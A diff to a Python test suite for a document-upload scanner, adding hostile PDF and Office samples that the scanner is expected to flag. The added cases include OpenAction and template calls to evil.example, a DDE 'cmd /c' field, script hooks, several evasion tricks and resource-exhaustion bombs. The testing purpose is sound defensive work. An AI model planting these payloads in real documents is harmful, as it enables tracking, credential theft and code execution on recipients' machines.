@@ -3,6 +3,7 @@
 What was found once and mended is named after what it did; what may look like it and is not stays accepted.
 """
 
+import random
 import time
 import zlib
 
@@ -44,6 +45,58 @@ PDFS = {
     ),
     "a form that is sent elsewhere": lambda: (
         hostile.pdf(catalogue=b"/OpenAction<</S/SubmitForm/F(http://evil.example/)>>"),
+        "file.active",
+    ),
+    "a file of another machine that opening it opens": lambda: (
+        hostile.pdf(catalogue=b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x)/D[0/Fit]>>"),
+        "file.active",
+    ),
+    "an address behind a remark": lambda: (
+        hostile.pdf(catalogue=b"/OpenAction%remark\n<</S%remark\n/URI/URI(http://evil.example/)>>"),
+        "file.active",
+    ),
+    "an address behind many words": lambda: (
+        hostile.pdf(catalogue=b"/OpenAction<</Title(" + b"x" * 3_000 + b")/S/URI/URI(http://evil.example/)>>"),
+        "file.active",
+    ),
+    "an address behind another dictionary": lambda: (
+        hostile.pdf(catalogue=b"/OpenAction<</More<</A 1>>/S/#55RI/URI(http://evil.example/)>>"),
+        "file.active",
+    ),
+    "an address after a page to go to": lambda: (
+        hostile.pdf({4: CALL, 5: b"<</S/GoTo/D[3 0 R/Fit]/Next[4 0 R]>>"}, catalogue=b"/OpenAction 5 0 R"),
+        "file.active",
+    ),
+    "an address in an object whose number has zeros": lambda: (
+        hostile.pdf({4: CALL}, catalogue=b"/OpenAction 4 0 R").replace(b"\n4 0 obj", b"\n0004 0 obj"),
+        "file.active",
+    ),
+    "a film whose player runs a script": lambda: (
+        hostile.pdf(catalogue=b"/OpenAction<</S/Rendition/OP 1/JS(app.alert(1))>>"),
+        "file.active",
+    ),
+    "a model that runs a script": lambda: (
+        hostile.pdf({4: b"<</Type/3D/Subtype/U3D/OnInstantiate 5 0 R>>"}),
+        "file.active",
+    ),
+    "a stream that lies on another machine": lambda: (
+        hostile.pdf({4: b"<</Length 0/F(//evil/x)/FFilter/FlateDecode>>stream\n\nendstream"}),
+        "file.active",
+    ),
+    "a web page in its first lines": lambda: (
+        hostile.pdf().replace(b"\n", b"\n%<HTML><script>alert(1)</script>\n", 1),
+        "file.mixed",
+    ),
+    "a picture with a script behind its end": lambda: (hostile.pdf() + b"\n<svg onload=alert(1)>", "file.mixed"),
+    "300,000 streams of packed objects": lambda: (
+        hostile.pdf({4: b"<</Type/XRef>>stream\nx\nendstream 1 0 obj" * 300_000}),
+        "file.bomb",
+    ),
+    "18 things to do in 18 MB of numbers": lambda: (
+        hostile.pdf(
+            {5: (b"1 0 obj" + b" " * 95) * 180_000},
+            catalogue=b"/OpenAction<</S/GoTo/Next[%s]>>" % b"".join(b"%d 0 R " % n for n in range(30, 48)),
+        ),
         "file.active",
     ),
     "a form in the form language": lambda: (hostile.pdf(catalogue=b"/AcroForm<</XFA 4 0 R/Fields[]>>"), "file.active"),
@@ -128,8 +181,19 @@ def test_a_voucher_for_the_books_may_carry_its_entries():
 
 def test_a_link_that_is_clicked_on_and_a_page_to_begin_at_are_accepted():
     links = b"/Annots[<</Subtype/Link/Rect[0 0 5 5]/A" + CALL + b">>]>>"
-    paper = hostile.pdf(page=hostile.PAGE[:-2] + links, catalogue=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>")
-    assert outcome(paper, "办事指南.pdf") == "STORED"
+    for begun in (
+        b"<</S/GoTo/D[3 0 R/Fit]>>",
+        b"[3 0 R/XYZ null null 0]",
+        b"<</S/Named/N/Print>>",
+        b" 4 0 R",
+        b" null",
+    ):
+        paper = hostile.pdf(
+            {4: b"<</S/GoTo/D(a\\)b)>>"}, page=hostile.PAGE[:-2] + links, catalogue=b"/OpenAction" + begun
+        )
+        assert outcome(paper, "办事指南.pdf") == "STORED", begun
+    fonts = hostile.pdf({4: b"<</Type/Font/Subtype/Type3/W 9 0 R>>"}, page=hostile.PAGE[:-2] + b"/Font<</AA 4 0 R>>>>")
+    assert outcome(fonts, "办事指南.pdf") == "STORED"  # a font that is called AA
     assert outcome(hostile.packed_pdf(b"/OpenAction[3 0 R/Fit]"), "办事指南.pdf") == "STORED"
 
 
@@ -157,6 +221,54 @@ PACKAGES = {
         "file.active",
     ),
     "an old macro sheet": (hostile.word("xl/macrosheets/sheet1.xml"), "file.active"),
+    "a template, each word of it in numbers": (
+        hostile.word(REL, hostile.TEMPLATE % (b"&#104;ttp://evil.example/x", b"attached&#x54;emplate")),
+        "file.active",
+    ),
+    "a template under another prefix": (
+        hostile.word(
+            REL,
+            (hostile.TEMPLATE % (b"http://evil.example/x", b"attachedTemplate")).replace(
+                b"<Relationship ", b"<p:Relationship "
+            ),
+        ),
+        "file.active",
+    ),
+    "a template on another machine": (
+        hostile.word(REL, hostile.TEMPLATE % (b"file://evil/x.dotm", b"attachedTemplate")),
+        "file.active",
+    ),
+    "a picture that tells who looks": (
+        hostile.word(REL, hostile.TEMPLATE % (b"https://evil.example/1.png", b"image")),
+        "file.active",
+    ),
+    "a field that fetches a text": (
+        hostile.word("word/a.xml", b'<w:instrText> INCLUDETEXT "http://evil.example/" </w:instrText>'),
+        "file.active",
+    ),
+    "a table that asks an address": (
+        hostile.word("xl/worksheets/s.xml", b'<f>_xlfn.WEBSERVICE("http://evil.example/")</f>'),
+        "file.active",
+    ),
+    "a program in an old object": (
+        hostile.word(
+            "word/embeddings/oleObject1.bin",
+            bytes.fromhex("d0cf11e0a1b11ae1") + bytes(300_000) + "\x01Ole10Native".encode("utf-16-le"),
+        ),
+        "file.mixed",
+    ),
+    "an equation of an old program": (
+        hostile.word(
+            "word/embeddings/oleObject1.bin",
+            bytes.fromhex("d0cf11e0a1b11ae1") + bytes(900) + "Equation Native".encode("utf-16-le"),
+        ),
+        "STORED",
+    ),
+    "a paper of another kind, for other readers": (hostile.word("word/chunk.rtf", b"{\\rtf1 \\object}"), "file.mixed"),
+    "an encoding in which nothing looks like itself": (
+        hostile.word("word/a.xml", b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE'),
+        "file.broken",
+    ),
     "a field that starts a program": (hostile.word("word/a.xml", hostile.ORDER), "file.active"),
     "the same in a header": (hostile.word("word/header1.xml", b'<w:fldSimple w:instr=" DDE cmd /c"/>'), "file.active"),
     "a table that asks another program": (hostile.word("xl/externalLinks/1.xml", b"<ddeLink/>"), "file.active"),
@@ -178,6 +290,15 @@ def test_a_cunning_package(content, code):
     assert outcome(content, "章程.docx") == code
     assert time.process_time() - began < 1
     assert _memory() - before < 30
+
+
+def test_a_hundred_megabytes_of_a_large_table_kept_the_processor_for_seconds():
+    chance = random.Random(1)
+    cells = b"".join(chance.randbytes(500) + b"0" * 20_000 for _row in range(5_000))
+    content = hostile.word("xl/worksheets/s.xml", b"<x>" + cells)
+    began = time.process_time()
+    assert outcome(content, "统计.xlsx") == "STORED"
+    assert time.process_time() - began < 2
 
 
 PICTURES = {
